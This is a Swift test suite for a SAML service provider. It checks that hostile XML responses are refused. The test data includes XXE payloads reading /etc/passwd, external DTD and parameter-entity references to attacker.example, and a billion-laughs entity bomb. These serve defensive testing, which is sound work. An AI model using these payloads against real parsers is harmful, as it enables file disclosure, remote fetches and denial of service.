import Foundation
import SAML
import Testing
import XMLSecurity

/// Hostile XML and transport encodings, refused before anything else happens.
@Suite struct XMLAttackTests {
    static func withDoctype(_ doctype: String, entityUse: String = "") throws -> String {
        let login = try TestLogin()
        var signed = try login.mint(signing: .assertion).replacingOccurrences(of: "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", with: "")
        signed = signed.replacingOccurrences(of: ">alice@example.com</saml:NameID>", with: ">alice@example.com\(entityUse)</saml:NameID>")
        return "<?xml version=\"1.0\"?>\n" + doctype + "\n" + signed
    }

    static let doctypes: [(String, String, String)] = [
        ("plain DOCTYPE", "<!DOCTYPE samlp:Response>", ""),
        ("internal entity", "<!DOCTYPE r [<!ENTITY e \"x\">]>", "&e;"),
        ("external entity (XXE)", "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "&xxe;"),
        ("external DTD", "<!DOCTYPE r SYSTEM \"http://attacker.example/evil.dtd\">", ""),
        ("parameter entity", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>", ""),
        (
            "billion laughs",
            "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>",
            "&h;"
        ),
    ]

    @Test("Any DOCTYPE is refused before entities are read", arguments: doctypes.indices)
    func doctype(_ index: Int) throws {
        let (name, doctype, use) = Self.doctypes[index]
        let xml = try Self.withDoctype(doctype, entityUse: use)
        #expect(try TestLogin().refusal(xml) == .doctypeForbidden, "\(name)")
        // Also through the base64 form value an ACS receives.
        #expect(try TestLogin().refusal(Base64.encode(Array(xml.utf8))) == .doctypeForbidden, "\(name) (base64)")
    }

    @Test("The base64 SAMLResponse form value is accepted, with line breaks")
    func base64Form() throws {
        let login = try TestLogin()
        let encoded = Base64.encode(Array(try login.mint(signing: .assertion).utf8))
        let wrapped = stride(from: 0, to: encoded.count, by: 76).map { start in
            let from = encoded.index(encoded.startIndex, offsetBy: start)
            return String(encoded[from..<encoded.index(from, offsetBy: min(76, encoded.count - start))])
        }.joined(separator: "\r\n")
        #expect(try login.validate(wrapped).nameID == "alice@example.com")
    }

    @Test("Garbage is neither XML nor base64")
    func garbage() throws {
        #expect(try TestLogin().refusal("SAMLResponse=%3Csamlp") == .encodingInvalid)
        #expect(try TestLogin().refusal("   ") == .encodingInvalid)
    }

    @Test("Responses over the size limit are refused before parsing")
    func tooLarge() throws {
        let login = try TestLogin()
        let huge = try login.mint(signing: .assertion).replacingOccurrences(
            of: "</samlp:Response>", with: "<samlp:Extensions>" + String(repeating: "x", count: 300 * 1024) + "</samlp:Extensions></samlp:Response>")
        #expect(login.refusal(huge) == .responseTooLarge)
        #expect(login.refusal(Base64.encode(Array(huge.utf8))) == .responseTooLarge)
    }

    @Test("Deep nesting is refused while parsing")
    func tooDeep() throws {
        let login = try TestLogin()
        let deep = try login.mint(signing: .assertion).replacingOccurrences(
            of: "</samlp:Response>",
            with: "<samlp:Extensions>" + String(repeating: "<x>", count: 100) + String(repeating: "</x>", count: 100)
                + "</samlp:Extensions></samlp:Response>")
        #expect(login.refusal(deep) == .xmlTooDeep)
    }

    @Test("Malformed XML and undeclared prefixes")
    func malformed() throws {
        let login = try TestLogin()
        let signed = try login.mint(signing: .assertion)
        #expect(login.refusal(String(signed.dropLast(20))) == .malformedXML)
        #expect(login.refusal(signed.replacingOccurrences(of: " xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"", with: "")) == .malformedXML)
    }

    @Test("Other SAML messages are not Responses")
    func notAResponse() throws {
        let login = try TestLogin()
        let sp = ServiceProvider(entityID: TestLogin.spEntityID, assertionConsumerServiceURL: TestLogin.acsURL)
        let request = AuthnRequest(serviceProvider: sp, destination: "https://idp.example.org/sso", issueInstant: TestLogin.now).xml
        #expect(login.refusal(request) == .notAResponse)
    }
}
